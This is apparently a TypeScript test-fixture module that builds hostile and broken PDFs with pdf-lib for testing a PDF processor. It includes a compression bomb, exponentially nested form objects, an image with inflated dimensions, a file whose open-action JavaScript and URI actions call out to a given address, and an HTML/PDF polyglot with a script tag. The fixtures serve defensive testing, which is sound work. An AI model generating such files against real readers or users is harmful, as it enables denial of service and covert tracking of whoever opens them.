import { deflateSync } from 'node:zlib';
import { PDFArray, type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** PDFs that are broken or meant to do harm, made with a library; those that it wouldn't make: written-pdfs.fixture.ts. */

const save = (pdf: PDFDocument) => pdf.save({ addDefaultPage: false });

export const withText = async (text = 'This page has its own text.'): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  pdf.addPage([595, 842]).drawText(text, { x: 60, y: 700, size: 14, font });
  return save(pdf);
};

export const ofSize = async (width: number, height: number): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create();
  pdf.addPage([width, height]);
  return save(pdf);
};

export const encrypted = async (): Promise<Uint8Array> => {
  const pdf = await PDFDocument.load(await withText());
  pdf.encrypt({ userPassword: 'secret', ownerPassword: 'more secret' });
  return save(pdf);
};

/** Everybody may read it; only changes need a password. */
export const lockedAgainstChanges = async (): Promise<Uint8Array> => {
  const pdf = await PDFDocument.load(await withText());
  pdf.encrypt({ userPassword: '', ownerPassword: 'secret' });
  return save(pdf);
};

/** One document of the pages of several. */
export const joined = async (files: readonly Uint8Array[]): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create();
  for (const file of files)
    for (const page of await pdf.copyPages(await PDFDocument.load(file), [0])) pdf.addPage(page);
  return save(pdf);
};

/** A page whose content is given, with what it may name under /XObject. */
const ofContent = async (
  content: string | Uint8Array,
  make: (pdf: PDFDocument) => Record<string, ReturnType<PDFDocument['context']['register']>> = () => ({}),
): Promise<Uint8Array> => {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([595, 842]);
  page.node.setXObject(PDFName.of('None'), pdf.context.register(pdf.context.stream('', {})));
  for (const [name, object] of Object.entries(make(pdf))) page.node.setXObject(PDFName.of(name), object);
  const stream =
    typeof content === 'string'
      ? pdf.context.stream(content)
      : pdf.context.stream(content, { Filter: PDFName.of('FlateDecode') });
  page.node.set(PDFName.Contents, pdf.context.register(stream));
  return save(pdf);
};

/** An image that says that it has so many pixels; what is stored of it is a few bytes. */
export const ofImage = (width: number, height: number): Promise<Uint8Array> =>
  ofContent('q 500 0 0 500 40 40 cm /Large Do Q', (pdf) => ({
    Large: pdf.context.register(
      pdf.context.stream(deflateSync(Buffer.alloc(1_000_000)), {
        Type: 'XObject',
        Subtype: 'Image',
        Width: width,
        Height: height,
        ColorSpace: 'DeviceGray',
        BitsPerComponent: 8,
        Filter: 'FlateDecode',
      }),
    ),
  }));

/** Forms that draw each other, ten times each: ten billion drawings in a few kilobytes. */
export const ofNestedForms = (): Promise<Uint8Array> =>
  ofContent('/Form0 Do', (pdf) => {
    const size = pdf.context.obj([0, 0, 595, 842]);
    const innermost = pdf.context.register(
      pdf.context.stream('0 0 m 500 500 l S', { Type: 'XObject', Subtype: 'Form', BBox: size }),
    );
    let inner = innermost;
    for (let level = 0; level < 10; level += 1) {
      const resources = pdf.context.obj({ XObject: { Inner: inner } });
      const ten = '/Inner Do '.repeat(10);
      inner = pdf.context.register(
        pdf.context.stream(ten, { Type: 'XObject', Subtype: 'Form', BBox: size, Resources: resources }),
      );
    }
    return { Form0: inner };
  });

/** Content that is a thousand times as large as what is stored. */
export const ofBomb = (megabytes: number): Promise<Uint8Array> =>
  ofContent(deflateSync(Buffer.alloc(megabytes * 1_000_000, '(bomb) Tj '), { level: 9 }));

/** A page with a script that runs on opening, a link to call home by, and an image that is somewhere else. */
export const callingHome = async (address: string): Promise<Uint8Array> => {
  const pdf = await PDFDocument.load(await withText());
  pdf.catalog.set(
    PDFName.of('OpenAction'),
    pdf.context.obj({
      S: 'JavaScript',
      JS: PDFString.of(`app.launchURL('${address}/script'); this.submitForm('${address}/form')`),
    }),
  );
  const elsewhere = pdf.context.register(
    pdf.context.stream('', {
      Type: 'XObject',
      Subtype: 'Image',
      Width: 10,
      Height: 10,
      ColorSpace: 'DeviceGray',
      BitsPerComponent: 8,
      F: pdf.context.obj({ FS: 'URL', F: PDFString.of(`${address}/image`) }),
    }),
  );
  const page = pdf.getPage(0);
  page.node.setXObject(PDFName.of('Elsewhere'), elsewhere);
  const draws = pdf.context.register(pdf.context.stream('q 90 0 0 90 40 40 cm /Elsewhere Do Q'));
  const contents = page.node.normalizedEntries().Contents ?? pdf.context.obj([]);
  if (contents instanceof PDFArray) contents.push(draws);
  page.node.set(
    PDFName.of('AA'),
    pdf.context.obj({ O: { S: 'URI', URI: PDFString.of(`${address}/opened`) } }) satisfies PDFDict,
  );
  return save(pdf);
};

/** A web page with a PDF inside, which some readers take for a PDF and browsers for a page. */
export const insideWebPage = async (): Promise<Uint8Array> =>
  Buffer.concat([Buffer.from('<html><script>alert(1)</script>\n'), await withText()]);
